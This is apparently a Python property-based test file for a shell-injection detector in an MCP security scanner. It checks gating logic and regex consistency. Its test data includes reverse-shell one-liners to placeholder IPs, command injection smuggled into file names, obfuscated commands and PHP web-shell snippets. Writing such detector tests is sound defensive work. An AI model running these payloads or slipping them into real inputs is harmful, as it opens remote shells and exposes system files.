"""The shell detector's gate is a necessary condition: whenever detect() would say something, the gate is open."""

from __future__ import annotations

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from aegis_mcp.engine import regex
from aegis_mcp.engine.detectors import shell, shell_deob, shell_value
from aegis_mcp.engine.detectors.base import Fragment, Role, ScanContext
from aegis_mcp.engine.detectors.shell_command import CODE_INJECT
from aegis_mcp.engine.detectors.shell_segment import _REVERSE
from aegis_mcp.engine.gates import GateSet
from aegis_mcp.engine.normalize import normalize
from aegis_mcp.engine.roles import is_code_runner

GATES = GateSet([("shell", shell.GATE)])

# Pieces of payloads and of ordinary values, glued together at random.
_PIECES = [
    "a", "x.txt", "/etc/passwd", "example.com", ";", "|", "&&", "`id`", "$(whoami)", "${IFS}", "\n", "\\n", " ", "-la",
    "id", "cat", "type", "nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1", "c''at", "/???/c?t",
    "{cat,/etc/passwd}", "$'\\x63at'", "who^ami", "<?php system($_GET[1]); ?>", "{{7*7}}", "<script>x</script>",
    "x.comwhoami", "photo.jpguname -a", "socket.socket(); dup2", "exec(", "Runtime.getRuntime().exec(\"x\")",
    "a@b.com -X /tmp/x", "\\r\\n/bin/ls", "() { :; };", "sleep 5", "ping -c 1 127.0.0.1", "-o", "ǅ", "ﷺ",
]
_text = st.lists(st.sampled_from(_PIECES) | st.text(max_size=6), min_size=1, max_size=6).map("".join)
_ROLES = [Role.PATH, Role.URL, Role.IDENT, Role.KEY, Role.UNKNOWN, Role.EMAIL, Role.TEXT, Role.CONTENT, Role.SQL]
_TOOLS = [frozenset({"get", "weather"}), frozenset({"read", "file"}), frozenset({"send", "email"}), frozenset({"search"})]


def _ctx(values: list[tuple[str, Role]], words: frozenset[str]) -> ScanContext:
    frags = []
    for i, (text, role) in enumerate(values):
        forms, flags = normalize(text, role)
        frags.append(Fragment(f"/a{i}", text, "a" if role is not Role.KEY else f"a{i}", role, role is Role.KEY, forms, flags))
    return ScanContext("tool", tuple(frags), tool_words=words, total_chars=sum(len(t) for t, _ in values))


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(values=st.lists(st.tuples(_text, st.sampled_from(_ROLES)), min_size=1, max_size=4), words=st.sampled_from(_TOOLS))
def test_whenever_the_detector_finds_something_its_gate_is_open(values: list[tuple[str, Role]], words: frozenset[str]) -> None:
    ctx = _ctx(values, words)
    if shell.detect(ctx):
        wanted = GATES.wanted(ctx)
        assert wanted is None or "shell" in wanted


def test_a_long_value_with_a_payload_at_either_end_opens_the_gate_and_is_found() -> None:
    filler = "a" * 40_000
    for value in (filler + ";cat /etc/passwd", "x.txt;cat /etc/passwd " + filler):
        ctx = _ctx([(value, Role.PATH)], frozenset({"read", "file"}))
        assert shell.detect(ctx)
        assert "shell" in (GATES.wanted(ctx) or {"shell"})


def test_ordinary_calls_keep_the_gate_shut() -> None:
    for values in ([("city", Role.KEY), ("Paris", Role.IDENT)], [("path", Role.KEY), ("src/main.py", Role.PATH)],
                   [("message", Role.KEY), ("See you at 5 - bring the report.", Role.TEXT)]):
        assert GATES.wanted(_ctx(values, frozenset({"get", "weather"}))) == frozenset()


def test_a_command_or_a_code_runner_always_opens_it() -> None:
    assert GATES.wanted(_ctx([("ls", Role.SHELL)], frozenset({"run"}))) == {"shell"}
    assert GATES.wanted(_ctx([("print(1)", Role.CONTENT)], frozenset({"run", "python"}))) == {"shell"}


@settings(max_examples=300, deadline=None)
@given(words=st.sets(st.sampled_from(
    "run exec execute eval evaluate interpret sandbox repl python code js node notebook shell bash file write get tool".split()
), max_size=4), name=st.sampled_from(["code", "script", "input", "command", "cmd", "source", "body", "text"]))
def test_code_runner_tools_are_named_by_the_gates_tool_words(words: set[str], name: str) -> None:
    if is_code_runner(frozenset(words), name):
        assert words & shell.GATE.tool_words


# The loose patterns are necessary conditions of the rules they stand for.
_RULE_TEXT = st.lists(st.sampled_from(_PIECES + [
    "ncat --exec", "socat tcp:1.2.3.4:1 exec:/bin/sh", "mkfifo /tmp/f; nc", "powercat -c 1.2.3.4 -e cmd", "xterm -display 1.2.3.4:1",
    "net.connect(4444, h, () => { child_process.spawn('/bin/sh') })", "TCPSocket.new", "$sock=fsockopen(\"h\",1)",
    "New-Object System.Net.Sockets.TCPClient", "/inet/tcp/0/h/1", "<!--#exec cmd=\"id\" -->", "{${system('id')}}",
    "passthru('id')", "shell_exec(\"id\")", "phpinfo()", "<?= `id` ?>",
]), min_size=1, max_size=5).map(" ".join)


@settings(max_examples=500, deadline=None)
@given(_RULE_TEXT)
def test_loose_patterns_hold_wherever_their_rules_match(text: str) -> None:
    if _REVERSE.search(text):
        assert regex.compile(shell_value.REVERSE_LOOSE).search(text)
    if CODE_INJECT.search(text):
        assert regex.compile(shell_value.CODE_INJECT_LOOSE).search(text)
    if shell_deob.GATE.search(text):
        assert regex.compile(shell_deob.GATE_LOOSE).search(text)
